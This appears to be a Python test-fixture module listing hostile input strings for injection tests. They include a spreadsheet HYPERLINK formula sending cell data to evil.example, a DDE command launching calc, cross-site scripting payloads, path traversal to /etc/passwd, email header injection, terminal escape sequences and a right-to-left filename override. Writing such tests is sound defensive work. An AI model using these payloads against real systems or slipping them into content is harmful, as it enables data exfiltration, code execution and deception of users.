"""Texts that people with bad intent type, for tests of every way in and out."""

from __future__ import annotations

# Every one can be seen, so it may come in; on no way out may it be more than text.
VISIBLE = {
    "formula": '=HYPERLINK("http://evil.example/?"&A1)',
    "command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "plus": "+1-2",
    "minus": "-2+3",
    "apostrophe": "'=1+1",
    "tab": "\t=1+1",
    "script": "<script>alert(1)</script>",
    "image": "<img src=http://evil.example/x.png onerror=alert(1)>",
    "attribute": '" onmouseover="alert(1)',
    "markdown": "![x](http://evil.example/x.png)",
    "link": "[click](javascript:alert(1))",
    "call": "<!channel> <http://evil.example|click> @channel @here @Everyone",
    "directive": ":red[x] $x$ :material/home: **b** `c` ~~d~~",
    "template": "{{ 7*7 }} {% raw %} ${7*7} %s {0}",
    "rich": "[bold]x[/bold] [/] [link=http://evil.example]y[/link]",
    "address": "http://evil.example/x.png",
    "path": "../../etc/passwd",
    "line": "x\nBcc: evil@example.org\n\n# head",
    "entity": "&lt;b&gt;&#60;i&#62;",
    "right-to-left": "שלום \u200f(ערב)",
}
# None of these may come in at all.
UNSEEN = {
    "escape": "\x1b[31mred\x1b]8;;http://evil.example\x07",
    "one-byte escape": "\x9b31m",
    "nul": "a\x00b",
    "return": "good\rEVIL",
    "backspace": "evil\x08\x08\x08\x08good",
    "override": "\u202ecod.exe",
    "isolate": "\u2066x\u2069",
    "separator": "a\u2028b",
    "none": "a\uffff",
}
